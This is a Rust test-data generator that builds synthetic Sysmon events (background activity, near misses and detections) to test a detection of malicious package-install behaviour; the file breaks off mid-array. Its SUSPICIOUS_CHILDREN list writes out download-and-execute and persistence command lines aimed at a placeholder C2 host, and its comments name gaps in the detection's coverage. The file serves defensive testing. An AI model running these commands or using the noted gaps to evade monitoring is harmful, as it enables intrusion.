//! Scenarios of machine activity: ordinary events, near misses that the detection must
//! not report, and the malicious-library activity it must report.

use crate::builders::{
    dns_query, file_create, image_load, network_connect, process_access, process_create,
    process_terminate, registry_set_value, Connection, EventData, ProcessStart,
};
use crate::catalog::*;
use crate::detection::Branch;
use crate::fleet::Role;
use crate::scene::{Account, Scene};

/// Why an event was generated, checked against [`crate::detection::detect`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Intent {
    /// Ordinary activity.
    Background,
    /// Activity that resembles a branch of the detection but must not be reported by it.
    NearMiss(Branch),
    /// Activity the detection reports.
    Detection(Branch),
}

/// An event's id, template version and data.
pub struct Built {
    pub event_id: u16,
    pub version: u8,
    pub data: EventData,
}

fn built(event_id: u16, data: EventData) -> Built {
    // The template versions found in real Sysmon logs for event ids 1, 3, 5, 7, 10, 11
    // and 13. NOTE: version 5 for event 22 is assumed, because no sample had one.
    let version = match event_id {
        1 | 3 | 22 => 5,
        5 | 7 | 10 => 3,
        _ => 2,
    };
    Built {
        event_id,
        version,
        data,
    }
}

const ALL_ROLES: &[Role] = &[
    Role::Workstation,
    Role::Developer,
    Role::BuildAgent,
    Role::Server,
];
const DESKTOPS: &[Role] = &[Role::Workstation, Role::Developer];
const DEVELOPERS: &[Role] = &[Role::Developer];
const BUILD_AGENTS: &[Role] = &[Role::BuildAgent];
const SERVERS: &[Role] = &[Role::Server];
const PACKAGE_MANAGER_HOSTS: &[Role] = &[Role::Developer, Role::BuildAgent];

/// Share of each event id among ordinary events, in percent.
const BACKGROUND_MIX: [(u32, u16); 8] = [
    (24, 3),
    (20, 7),
    (12, 1),
    (14, 11),
    (12, 13),
    (10, 22),
    (6, 5),
    (2, 10),
];

/// Builds one ordinary event for the scene's host.
pub fn background(scene: &mut Scene) -> Built {
    let event_id = *scene.rng.pick_weighted(&BACKGROUND_MIX);
    match event_id {
        1 => built(1, ordinary_process_start(scene)),
        3 => built(3, ordinary_connection(scene)),
        5 => {
            let (program, account) = running_program(scene);
            built(5, process_terminate(scene, &program, account))
        }
        7 => {
            let (program, account) = running_program(scene);
            let library = *scene.rng.pick(&LIBRARIES);
            built(7, image_load(scene, &program, &library, account))
        }
        10 => {
            let sources = [DEFENDER, SVCHOST, CSRSS, TASKMGR];
            let source = *scene.rng.pick(&sources);
            let access = *scene
                .rng
                .pick(&["0x1000", "0x1400", "0x1410", "0x101541", "0x1fffff"]);
            built(10, process_access(scene, &source, &LSASS, access))
        }
        11 => built(11, ordinary_file(scene)),
        13 => {
            let (key, details) = *scene.rng.pick(&REGISTRY_WRITES);
            let (program, account) = if scene.rng.chance(0.5) {
                (EXPLORER, Account::User)
            } else {
                (SVCHOST, Account::System)
            };
            built(
                13,
                registry_set_value(scene, &program, account, key, details),
            )
        }
        _ => {
            let (name, results) = *scene.rng.pick(&DNS_ANSWERS);
            let (program, account) = resolving_program(scene);
            built(22, dns_query(scene, &program, account, name, results))
        }
    }
}

/// Picks a process that runs on this kind of host, with its account.
fn running_program(scene: &mut Scene) -> (Program, Account) {
    let desktop = [
        (CHROME, Account::User),
        (EDGE, Account::User),
        (OUTLOOK, Account::User),
        (TEAMS, Account::User),
        (ONEDRIVE, Account::User),
        (EXPLORER, Account::User),
        (RUNTIME_BROKER, Account::User),
        (SVCHOST, Account::System),
        (SVCHOST, Account::NetworkService),
        (SVCHOST, Account::LocalService),
        (DEFENDER, Account::System),
        (SEARCH_PROTOCOL_HOST, Account::System),
    ];
    let developer = [
        (VS_CODE, Account::User),
        (GIT, Account::User),
        (NODE, Account::User),
        (PYTHON, Account::User),
    ];
    let build_agent = [
        (BUILD_AGENT, Account::User),
        (MSBUILD, Account::User),
        (GIT, Account::User),
        (NODE, Account::User),
    ];
    let server = [
        (SQL_SERVER, Account::User),
        (SVCHOST, Account::System),
        (SVCHOST, Account::NetworkService),
        (WMIPRVSE, Account::NetworkService),
        (DEFENDER, Account::System),
    ];

    match scene.host.role {
        Role::Workstation => *scene.rng.pick(&desktop),
        Role::Developer if scene.rng.chance(0.4) => *scene.rng.pick(&developer),
        Role::Developer => *scene.rng.pick(&desktop),
        Role::BuildAgent if scene.rng.chance(0.6) => *scene.rng.pick(&build_agent),
        Role::BuildAgent | Role::Server => *scene.rng.pick(&server),
    }
}

/// Picks a process that resolves host names on this kind of host, with its account.
fn resolving_program(scene: &mut Scene) -> (Program, Account) {
    let desktop = [
        (CHROME, Account::User),
        (EDGE, Account::User),
        (OUTLOOK, Account::User),
        (TEAMS, Account::User),
        (ONEDRIVE, Account::User),
        (SVCHOST, Account::NetworkService),
    ];
    let developer = [
        (VS_CODE, Account::User),
        (GIT, Account::User),
        (NODE, Account::User),
        (PYTHON, Account::User),
    ];
    let build_agent = [
        (BUILD_AGENT, Account::User),
        (GIT, Account::User),
        (NODE, Account::User),
        (PYTHON, Account::User),
    ];
    let server = [
        (SVCHOST, Account::NetworkService),
        (DEFENDER, Account::System),
    ];

    match scene.host.role {
        Role::Workstation => *scene.rng.pick(&desktop),
        Role::Developer if scene.rng.chance(0.4) => *scene.rng.pick(&developer),
        Role::Developer => *scene.rng.pick(&desktop),
        Role::BuildAgent => *scene.rng.pick(&build_agent),
        Role::Server => *scene.rng.pick(&server),
    }
}

/// Ordinary process starts: (roles, weight, start).
const ORDINARY_STARTS: &[(&[Role], u32, ProcessStart)] = &[
    (
        ALL_ROLES,
        8,
        ProcessStart {
            parent: SERVICES,
            parent_command_line: r"C:\Windows\system32\services.exe",
            child: SVCHOST,
            command_line: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {service}",
            current_directory: r"C:\Windows\system32\",
            account: Account::System,
            integrity_level: "System",
        },
    ),
    (
        DESKTOPS,
        6,
        ProcessStart {
            parent: EXPLORER,
            parent_command_line: r"C:\Windows\Explorer.EXE",
            child: CHROME,
            command_line: r#""C:\Program Files\Google\Chrome\Application\chrome.exe" "#,
            current_directory: r"C:\Program Files\Google\Chrome\Application\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        DESKTOPS,
        20,
        ProcessStart {
            parent: CHROME,
            parent_command_line: r#""C:\Program Files\Google\Chrome\Application\chrome.exe" "#,
            child: CHROME,
            command_line: r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --string-annotations --video-capture-use-gpu-memory-buffer --lang=en-US --device-scale-factor=1 --num-raster-threads=2 --enable-main-frame-before-activation --renderer-client-id={n3} --time-ticks-at-unix-epoch=-{n16} --launch-time-ticks={n11} --field-trial-handle=2012,i,{n19},{n19},262144 --variations-seed-version=20240307-050130.118000 --mojo-platform-channel-handle={n4} /prefetch:1"#,
            current_directory: r"C:\Program Files\Google\Chrome\Application\122.0.6261.112\",
            account: Account::User,
            integrity_level: "Low",
        },
    ),
    (
        DESKTOPS,
        8,
        ProcessStart {
            parent: EDGE,
            parent_command_line: r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#,
            child: EDGE,
            command_line: r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle={n4},i,{n19},{n19},262144 --variations-seed-version --mojo-platform-channel-handle={n4} /prefetch:3"#,
            current_directory: r"C:\Program Files (x86)\Microsoft\Edge\Application\122.0.2365.80\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        DESKTOPS,
        3,
        ProcessStart {
            parent: EXPLORER,
            parent_command_line: r"C:\Windows\Explorer.EXE",
            child: OUTLOOK,
            command_line: r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#,
            current_directory: r"C:\Users\{profile}\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        ALL_ROLES,
        5,
        ProcessStart {
            parent: SVCHOST,
            parent_command_line: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
            child: WMIPRVSE,
            command_line: r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
            current_directory: r"C:\Windows\system32\",
            account: Account::NetworkService,
            integrity_level: "System",
        },
    ),
    (
        DESKTOPS,
        5,
        ProcessStart {
            parent: SEARCH_INDEXER,
            parent_command_line: r"C:\Windows\system32\SearchIndexer.exe /Embedding",
            child: SEARCH_PROTOCOL_HOST,
            command_line: r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n3}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n3} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" "1""#,
            current_directory: r"C:\Windows\system32\",
            account: Account::System,
            integrity_level: "System",
        },
    ),
    (
        DESKTOPS,
        4,
        ProcessStart {
            parent: SVCHOST,
            parent_command_line: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
            child: TASKHOSTW,
            command_line: r"taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
            current_directory: r"C:\Windows\system32\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        DESKTOPS,
        4,
        ProcessStart {
            parent: SVCHOST,
            parent_command_line: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
            child: RUNTIME_BROKER,
            command_line: r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
            current_directory: r"C:\Windows\system32\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        ALL_ROLES,
        2,
        ProcessStart {
            parent: DEFENDER,
            parent_command_line: r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24020.7-0\MsMpEng.exe""#,
            child: DEFENDER_COMMAND,
            command_line: r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24020.7-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges -DailyReport"#,
            current_directory: r"C:\Windows\system32\",
            account: Account::System,
            integrity_level: "System",
        },
    ),
    (
        DESKTOPS,
        2,
        ProcessStart {
            parent: EXPLORER,
            parent_command_line: r"C:\Windows\Explorer.EXE",
            child: NOTEPAD,
            command_line: r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\{profile}\Documents\notes-{n2}.txt"#,
            current_directory: r"C:\Users\{profile}\Documents\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        DEVELOPERS,
        6,
        ProcessStart {
            parent: VS_CODE,
            parent_command_line: r#""C:\Users\{profile}\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --dns-result-order=ipv4first --inspect-port=0 --field-trial-handle={n4},i,{n19},{n19},262144 --disable-features=CalculateNativeWinOcclusion,SpareRendererForSitePerProcess --variations-seed-version --mojo-platform-channel-handle={n4} /prefetch:8"#,
            child: GIT,
            command_line: r#""C:\Program Files\Git\cmd\git.exe" -c core.quotepath=false -c color.ui=false status -z -uall"#,
            current_directory: r"C:\src\{project}\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        DEVELOPERS,
        2,
        ProcessStart {
            parent: VS_CODE,
            parent_command_line: r#""C:\Users\{profile}\AppData\Local\Programs\Microsoft VS Code\Code.exe" "#,
            child: POWERSHELL,
            command_line: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            current_directory: r"C:\src\{project}\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        DEVELOPERS,
        2,
        ProcessStart {
            parent: EXPLORER,
            parent_command_line: r"C:\Windows\Explorer.EXE",
            child: CMD,
            command_line: r#""C:\Windows\system32\cmd.exe" "#,
            current_directory: r"C:\Users\{profile}\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        DEVELOPERS,
        3,
        ProcessStart {
            parent: CMD,
            parent_command_line: r#""C:\Windows\system32\cmd.exe" "#,
            child: PYTHON,
            command_line: r#""{pydir}python.exe" -m pytest tests -q -x --maxfail=3"#,
            current_directory: r"C:\src\{project}\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        DEVELOPERS,
        3,
        ProcessStart {
            parent: POWERSHELL,
            parent_command_line: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            child: NODE,
            command_line: r#""C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" run build"#,
            current_directory: r"C:\src\{project}\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        PACKAGE_MANAGER_HOSTS,
        3,
        ProcessStart {
            parent: NODE,
            parent_command_line: r#""C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" run build"#,
            child: NODE,
            command_line: r#""C:\Program Files\nodejs\node.exe" C:\src\{project}\node_modules\vite\bin\vite.js build"#,
            current_directory: r"C:\src\{project}\",
            account: Account::User,
            integrity_level: "Medium",
        },
    ),
    (
        BUILD_AGENTS,
        8,
        ProcessStart {
            parent: BUILD_AGENT,
            parent_command_line: r#""C:\agent\bin\Agent.Worker.exe" spawnclient {n4} {n4}"#,
            child: CMD,
            command_line: r#""C:\Windows\system32\cmd.exe" /D /E:ON /V:OFF /S /C "CALL "C:\agent\_work\_temp\{hex8}-{hex4}-{hex4}-{hex4}-{hex12}.cmd"""#,
            current_directory: r"C:\agent\_work\{n1}\s\",
            account: Account::User,
            integrity_level: "High",
        },
    ),
    (
        BUILD_AGENTS,
        4,
        ProcessStart {
            parent: CMD,
            parent_command_line: r#""C:\Windows\system32\cmd.exe" /D /E:ON /V:OFF /S /C "CALL "C:\agent\_work\_temp\{hex8}-{hex4}-{hex4}-{hex4}-{hex12}.cmd"""#,
            child: MSBUILD,
            command_line: r#""C:\Program Files\Microsoft Visual Studio\2022\BuildTools\MSBuild\Current\Bin\amd64\MSBuild.exe" C:\agent\_work\1\s\{project}.sln /p:Configuration=Release /m /nologo /v:minimal"#,
            current_directory: r"C:\agent\_work\1\s\",
            account: Account::User,
            integrity_level: "High",
        },
    ),
    (
        SERVERS,
        6,
        ProcessStart {
            parent: SVCHOST,
            parent_command_line: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
            child: POWERSHELL,
            command_line: r#""powershell.exe" -NoProfile -ExecutionPolicy Bypass -File "C:\Scripts\Rotate-Logs.ps1" -Days 14"#,
            current_directory: r"C:\Windows\system32\",
            account: Account::User,
            integrity_level: "High",
        },
    ),
    (
        SERVERS,
        2,
        ProcessStart {
            parent: SERVICES,
            parent_command_line: r"C:\Windows\system32\services.exe",
            child: SQL_SERVER,
            command_line: r#""C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER"#,
            current_directory: r"C:\Windows\system32\",
            account: Account::User,
            integrity_level: "High",
        },
    ),
    (
        ALL_ROLES,
        4,
        ProcessStart {
            parent: CMD,
            parent_command_line: r#"C:\Windows\system32\cmd.exe /c ""C:\Windows\Temp\{alnum8}.cmd"""#,
            child: CONHOST,
            command_line: r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
            current_directory: r"C:\Windows\system32\",
            account: Account::System,
            integrity_level: "System",
        },
    ),
];

fn ordinary_process_start(scene: &mut Scene) -> EventData {
    let role = scene.host.role;
    let choices: Vec<(u32, &ProcessStart)> = ORDINARY_STARTS
        .iter()
        .filter(|(roles, _, _)| roles.contains(&role))
        .map(|(_, weight, start)| (*weight, start))
        .collect();
    let start = *scene.rng.pick_weighted(&choices);
    process_create(scene, start)
}

fn ordinary_connection(scene: &mut Scene) -> EventData {
    let role = scene.host.role;
    if scene.rng.chance(0.2) || role == Role::Server {
        let (dc_name, dc_address) = *scene.rng.pick(&DOMAIN_CONTROLLERS);
        let (port, _) = *scene.rng.pick(&DOMAIN_PORTS);
        let program = if port == 445 { SVCHOST } else { LSASS };
        let connection = Connection {
            destination_ip: dc_address.to_string(),
            destination_host_name: dc_name.to_string(),
            destination_port: port,
        };
        return network_connect(scene, &program, Account::System, &connection);
    }

    let (program, account) = match role {
        Role::Developer if scene.rng.chance(0.3) => *scene
            .rng
            .pick(&[(GIT, Account::User), (VS_CODE, Account::User)]),
        Role::BuildAgent => (BUILD_AGENT, Account::User),
        _ => *scene.rng.pick(&[
            (CHROME, Account::User),
            (CHROME, Account::User),
            (EDGE, Account::User),
            (TEAMS, Account::User),
            (OUTLOOK, Account::User),
            (ONEDRIVE, Account::User),
            (SVCHOST, Account::NetworkService),
        ]),
    };
    let (host_name, address, port) = *scene.rng.pick(&PUBLIC_SERVICES);
    let connection = Connection {
        destination_ip: address.to_string(),
        destination_host_name: host_name.to_string(),
        destination_port: port,
    };
    network_connect(scene, &program, account, &connection)
}

fn ordinary_file(scene: &mut Scene) -> EventData {
    const DESKTOP_FILES: [(Program, Account, &str); 7] = [
        (
            CHROME,
            Account::User,
            r"C:\Users\{profile}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_{hex6}",
        ),
        (
            EDGE,
            Account::User,
            r"C:\Users\{profile}\AppData\Local\Temp\msedge_{alnum6}.tmp",
        ),
        (
            SVCHOST,
            Account::System,
            r"C:\Windows\Prefetch\CHROME.EXE-{HEX8}.pf",
        ),
        (
            OUTLOOK,
            Account::User,
            r"C:\Users\{profile}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{alnum8}\Invoice_{n6}.pdf",
        ),
        (
            ONEDRIVE,
            Account::User,
            r"C:\Users\{profile}\OneDrive - Corp\Documents\Q{n1} planning {n2}.docx",
        ),
        (
            EXPLORER,
            Account::User,
            r"C:\Users\{profile}\Downloads\meeting-notes-{n4}.zip",
        ),
        (
            DEFENDER,
            Account::System,
            r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\{n2}\{GUID}",
        ),
    ];
    const DEVELOPER_FILES: [(Program, Account, &str); 3] = [
        (
            PYTHON,
            Account::User,
            r"C:\src\{project}\tests\__pycache__\test_{alnum6}.cpython-312-pytest-8.0.2.pyc",
        ),
        (
            NODE,
            Account::User,
            r"C:\src\{project}\node_modules\.vite\deps\chunk-{HEX8}.js",
        ),
        (
            VS_CODE,
            Account::User,
            r"C:\Users\{profile}\AppData\Roaming\Code\User\workspaceStorage\{hex32}\state.vscdb",
        ),
    ];
    const BUILD_FILES: [(Program, Account, &str); 2] = [
        (
            MSBUILD,
            Account::User,
            r"C:\agent\_work\1\s\src\bin\Release\net8.0\Corp.{alnum6}.dll",
        ),
        (
            GIT,
            Account::User,
            r"C:\agent\_work\1\s\.git\objects\pack\pack-{hex40}.idx",
        ),
    ];

    let (program, account, template) = match scene.host.role {
        Role::Developer if scene.rng.chance(0.4) => *scene.rng.pick(&DEVELOPER_FILES),
        Role::BuildAgent if scene.rng.chance(0.7) => *scene.rng.pick(&BUILD_FILES),
        _ => *scene.rng.pick(&DESKTOP_FILES),
    };
    let target = scene.expand(template);
    file_create(scene, &program, account, target)
}

/// Builds an event that resembles `branch` of the detection but must not be reported.
/// The scene's host must run package managers.
pub fn near_miss(scene: &mut Scene, branch: Branch) -> Built {
    match branch {
        Branch::PackageInstall => {
            let start = *scene.rng.pick(&NEAR_MISS_STARTS);
            built(1, process_create(scene, &start))
        }
        Branch::C2Callback => built(3, near_miss_connection(scene)),
        Branch::DroppedExecutable => {
            let (program, template) = *scene.rng.pick(&NEAR_MISS_FILES);
            let target = scene.expand(template);
            built(11, file_create(scene, &program, Account::User, target))
        }
    }
}

const NEAR_MISS_STARTS: [ProcessStart; 7] = [
    // Building a native extension: pip starts the compiler, which is no LOLBin.
    ProcessStart {
        parent: PIP,
        parent_command_line: r"pip install {package}",
        child: CL,
        command_line: r#"cl.exe /c /nologo /O2 /W3 /GL /DNDEBUG /MD "-I{pydir}include" /Tcsrc/_speedups.c /Fobuild\temp.win-amd64-cpython-312\Release\src/_speedups.obj"#,
        current_directory: r"C:\Users\{profile}\AppData\Local\Temp\pip-install-{alnum8}\markupsafe_{hex32}\",
        account: Account::User,
        integrity_level: "Medium",
    },
    // pip fetching a Git dependency.
    ProcessStart {
        parent: PYTHON,
        parent_command_line: r#""{pydir}python.exe" -m pip install git+https://github.com/corp-example/{project}.git"#,
        child: GIT,
        command_line: r#"git clone --filter=blob:none --quiet https://github.com/corp-example/{project}.git C:\Users\{profile}\AppData\Local\Temp\pip-req-build-{alnum8}"#,
        current_directory: r"C:\src\{project}\",
        account: Account::User,
        integrity_level: "Medium",
    },
    // Creating a virtual environment: Python starts Python.
    ProcessStart {
        parent: PYTHON,
        parent_command_line: r#""{pydir}python.exe" -m venv .venv"#,
        child: PYTHON,
        command_line: r"C:\src\{project}\.venv\Scripts\python.exe -Im ensurepip --upgrade --default-pip",
        current_directory: r"C:\src\{project}\",
        account: Account::User,
        integrity_level: "Medium",
    },
    // An npm lifecycle script through a shell logged with an upper-case path, which the
    // detection's case-sensitive `*\cmd.exe` does not match.
    ProcessStart {
        parent: NODE,
        parent_command_line: r#""C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install {npm_package}"#,
        child: CMD_UPPER_CASE,
        command_line: r#"C:\WINDOWS\system32\CMD.EXE /d /s /c "node install.js""#,
        current_directory: r"C:\src\{project}\node_modules\esbuild\",
        account: Account::User,
        integrity_level: "Medium",
    },
    // IDLE runs under pythonw.exe, which the detection does not list.
    ProcessStart {
        parent: PYTHONW,
        parent_command_line: r#""{pydir}pythonw.exe" "{pydir}Lib\idlelib\idle.pyw""#,
        child: CMD,
        command_line: r"C:\Windows\system32\cmd.exe /c dir /b C:\src\{project}",
        current_directory: r"C:\src\{project}\",
        account: Account::User,
        integrity_level: "Medium",
    },
    // pipenv is neither `pip install` nor a listed parent.
    ProcessStart {
        parent: PIPENV,
        parent_command_line: r"pipenv install --dev",
        child: CMD,
        command_line: r#"C:\Windows\system32\cmd.exe /c "{pydir}python.exe -m pip --version""#,
        current_directory: r"C:\src\{project}\",
        account: Account::User,
        integrity_level: "Medium",
    },
    // npm installing a Git dependency.
    ProcessStart {
        parent: NODE,
        parent_command_line: r#""C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" ci"#,
        child: GIT,
        command_line: r#""C:\Program Files\Git\cmd\git.exe" ls-remote -h -t ssh://git@github.com/corp-example/design-tokens.git"#,
        current_directory: r"C:\src\{project}\",
        account: Account::User,
        integrity_level: "Medium",
    },
];

fn near_miss_connection(scene: &mut Scene) -> EventData {
    let program = *scene.rng.pick(&[PYTHON, PYTHON, NODE]);
    let connection = match scene.rng.below(6) {
        // A package registry or code host: on 443, and for GitHub also on the SSH and
        // Git ports, which only its allow-listed host name keeps from firing. The npm
        // registry is `registry.npmjs.org`, which the query's `*npmjs.com` misses, so on
        // any port but a standard one it would fire.
        0 | 1 => {
            let (host_name, address) = *scene.rng.pick(&REGISTRY_SERVICES);
            let port = if host_name == "github.com" {
                *scene.rng.pick(&[443, 22, 9418])
            } else {
                443
            };
            Connection {
                destination_ip: address.to_string(),
                destination_host_name: host_name.to_string(),
                destination_port: port,
            }
        }
        // A private address the detection excludes, on a development port.
        2 => {
            let address = match scene.rng.below(3) {
                0 => format!(
                    "10.10.{}.{}",
                    scene.rng.between(1, 40),
                    scene.rng.between(2, 250)
                ),
                1 => format!(
                    "192.168.{}.{}",
                    scene.rng.between(0, 10),
                    scene.rng.between(2, 250)
                ),
                _ => "127.0.0.1".to_string(),
            };
            Connection {
                destination_ip: address,
                destination_host_name: "-".to_string(),
                destination_port: *scene.rng.pick(&[8888, 3000, 5000, 9229, 5432, 6379]),
            }
        }
        // An unknown public host on a web port the detection treats as standard.
        3 | 4 => {
            let (host_name, address, _) = *scene.rng.pick(&PUBLIC_SERVICES);
            Connection {
                destination_ip: address.to_string(),
                destination_host_name: host_name.to_string(),
                destination_port: *scene.rng.pick(&[80, 443, 8080, 8443]),
            }
        }
        // pythonw.exe, which the detection does not list, on an odd port.
        _ => {
            let connection = Connection {
                destination_ip: scene.expand("{c2}"),
                destination_host_name: "-".to_string(),
                destination_port: 4444,
            };
            return network_connect(scene, &PYTHONW, Account::User, &connection);
        }
    };
    network_connect(scene, &program, Account::User, &connection)
}

const NEAR_MISS_FILES: [(Program, &str); 7] = [
    // Data files in Temp: not an executable extension.
    (
        PYTHON,
        r"C:\Users\{profile}\AppData\Local\Temp\tmp{alnum8}\report.json",
    ),
    // An executable, but in Downloads, which the detection does not watch.
    (PYTHON, r"C:\Users\{profile}\Downloads\installer-{n4}.exe"),
    // pip installing a console script into Python's own Scripts folder.
    (PIP, r"{pydir}Scripts\black.exe"),
    // pip unpacking a source distribution: `.py` is no executable extension.
    (
        PIP,
        r"C:\Users\{profile}\AppData\Local\Temp\pip-install-{alnum8}\markupsafe_{hex32}\setup.py",
    ),
    // A compiled extension module: `.pyd` is not in the list.
    (
        PIP,
        r"{pydir}Lib\site-packages\numpy\core\_multiarray_umath.cp312-win_amd64.pyd",
    ),
    // npm installing a native binary into the project.
    (
        NODE,
        r"C:\src\{project}\node_modules\@esbuild\win32-x64\esbuild.exe",
    ),
    // An executable in Temp, but written by Explorer, which is no package manager.
    (
        EXPLORER,
        r"C:\Users\{profile}\AppData\Local\Temp\{guid}\setup.exe",
    ),
];

/// Builds an event that `branch` of the detection reports. The scene's host must run
/// package managers.
pub fn detection(scene: &mut Scene, branch: Branch) -> Built {
    match branch {
        Branch::PackageInstall => {
            let (parent, parent_command_line) = *scene.rng.pick(&INSTALLING_PARENTS);
            let (child, command_line) = *scene.rng.pick(&SUSPICIOUS_CHILDREN);
            let start = ProcessStart {
                parent,
                parent_command_line,
                child,
                command_line,
                current_directory: r"C:\src\{project}\",
                account: Account::User,
                integrity_level: if scene.host.role == Role::BuildAgent {
                    "High"
                } else {
                    "Medium"
                },
            };
            built(1, process_create(scene, &start))
        }
        Branch::C2Callback => {
            let program = *scene.rng.pick(&[PYTHON, PYTHON, NODE, MSYS_PYTHON3]);
            // One in five goes to 172.16.0.0/12, which the query means to exclude but
            // cannot, because its `172.1[6-9].*` patterns read the brackets literally.
            let connection = if scene.rng.chance(0.2) {
                Connection {
                    destination_ip: format!(
                        "172.{}.{}.{}",
                        scene.rng.between(16, 31),
                        scene.rng.between(0, 255),
                        scene.rng.between(2, 250)
                    ),
                    destination_host_name: "-".to_string(),
                    destination_port: *scene.rng.pick(&C2_PORTS),
                }
            } else {
                Connection {
                    destination_ip: scene.expand("{c2}"),
                    destination_host_name: scene.rng.pick(&C2_HOST_NAMES).to_string(),
                    destination_port: *scene.rng.pick(&C2_PORTS),
                }
            };
            built(
                3,
                network_connect(scene, &program, Account::User, &connection),
            )
        }
        Branch::DroppedExecutable => {
            let program = *scene
                .rng
                .pick(&[PYTHON, PYTHON, NODE, PIP, PIP3, MSYS_PYTHON3]);
            let template = *scene.rng.pick(&DROPPED_FILES);
            let target = scene.expand(template);
            built(11, file_create(scene, &program, Account::User, target))
        }
    }
}

const INSTALLING_PARENTS: [(Program, &str); 7] = [
    (PIP, "pip install {bad_package}"),
    (PIP3, "pip3 install --user {bad_package}"),
    (
        PYTHON,
        r#""{pydir}python.exe" -m pip install {bad_package}"#,
    ),
    (PYTHON, r#""{pydir}python.exe" setup.py install"#),
    (
        NODE,
        r#""C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install {bad_npm_package}"#,
    ),
    (
        NODE,
        r#""C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" ci"#,
    ),
    (
        NODE,
        r#""C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\yarn\bin\yarn.js" add {bad_npm_package}"#,
    ),
];

const SUSPICIOUS_CHILDREN: [(Program, &str); 14] = [
    (
        CMD,
        r"C:\Windows\system32\cmd.exe /c whoami /all > %TEMP%\sysinfo.txt && curl -s http://{c2}/k.ps1 -o %TEMP%\k.ps1",
    ),
    (
        POWERSHELL,
        r"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {base64}",
    ),
    (
        PWSH,
        r#""C:\Program Files\PowerShell\7\pwsh.exe" -nop -c "iwr http://{c2}:{c2_port}/stage2 -UseBasicParsing | iex""#,
    ),
    (MSHTA, r"mshta.exe http://{c2}/update.hta"),
    (
        RUNDLL32,
        r"rundll32.exe C:\Users\{profile}\AppData\Local\Temp\{alnum8}.dll,DllRegisterServer",
    ),
    (
        CERTUTIL,
        r"certutil.exe -urlcache -split -f http://{c2}/payload.bin C:\Users\{profile}\AppData\Local\Temp\p{n3}.bin",
    ),
    (
        BITSADMIN,
        r"bitsadmin /transfer pkgupdate /download /priority high http://{c2}/svc.exe C:\ProgramData\svc.exe",
    ),
    (
        WSCRIPT,
        r"wscript.exe //B //E:jscript C:\Users\{profile}\AppData\Local\Temp\{alnum8}.js",
    ),
    (
        CSCRIPT,
        r"cscript.exe //nologo C:\Users\{profile}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\sync.vbs",
    ),
    (
        REGSVR32,
        r"regsvr32.exe /s /n /u /i:http://{c2}/file.sct scrobj.dll",
    ),
    (MSIEXEC, r"msiexec.exe /q /i http://{c2}/pkg.msi"),
    (
        SCHTASKS,
        r#"schtasks.exe /create /sc onlogon /tn "OneDrive Sync Helper" /tr "C:\ProgramData\{alnum8}\sync.exe" /f"#,
    ),
    (
        SC,
        r#"sc.exe create PkgUpdateSvc binPath= "C:\ProgramData\{alnum8}\svc.exe" start= auto"#,
    ),
    (
        REG,
